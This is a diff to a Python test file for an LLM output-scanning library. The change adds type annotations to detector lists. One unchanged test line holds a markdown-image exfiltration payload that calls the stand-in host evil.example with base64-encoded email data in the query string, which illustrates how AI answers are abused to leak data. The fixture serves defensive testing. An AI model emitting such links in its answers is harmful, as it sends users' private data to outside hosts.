@@ -16,6 +16,7 @@ from bastion.protect.actions import ActionPolicy, ActionSettings
 from bastion.protect.canary import Canary, insert_canary
 from bastion.protect.outputscan import (
     AnswerStream,
+    Detector,
     LinkDetector,
     OutputScanner,
     OutputScanSettings,
@@ -236,7 +237,7 @@ def test_link_detector(text: str, flagged: bool) -> None:
 
 def test_exfiltration_image_split_across_chunks_is_removed() -> None:
     answer = "Done. ![status](https://evil.example/s.png?u=amFuZUBleGFtcGxlLmNvbQ) Bye."
-    detectors = [fake_scan, LinkDetector(OutputScanSettings().allowed_link_domains)]
+    detectors: list[Detector] = [fake_scan, LinkDetector(OutputScanSettings().allowed_link_domains)]
     for i, j in itertools.combinations(range(len(answer) + 1), 2):
         s = OutputScanner(detectors, ActionSettings().output_policy())
         out = "".join(s.feed(p) for p in (answer[:i], answer[i:j], answer[j:])) + s.flush()
@@ -263,7 +264,7 @@ def test_answer_stream_scans_provider_text_then_restores_pseudonyms() -> None:
 
 def test_first_chunk_latency_is_small() -> None:
     c = Canary.new()
-    detectors = [fake_scan, c.detector(), LinkDetector()]
+    detectors: list[Detector] = [fake_scan, c.detector(), LinkDetector()]
     first = "Sure! Here is a summary of the quarterly report you asked for. "
     samples = []
     for _ in range(300):
